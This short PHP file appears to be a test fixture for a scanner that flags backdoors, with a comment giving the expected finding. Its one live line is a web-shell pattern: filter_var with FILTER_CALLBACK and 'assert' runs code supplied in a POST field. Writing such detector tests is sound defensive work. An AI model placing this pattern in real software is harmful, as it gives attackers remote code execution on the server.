<?php return; // want: malicious backdoor php.code.request
echo filter_var($_POST['thing'], FILTER_CALLBACK, array('options' => 'assert'));
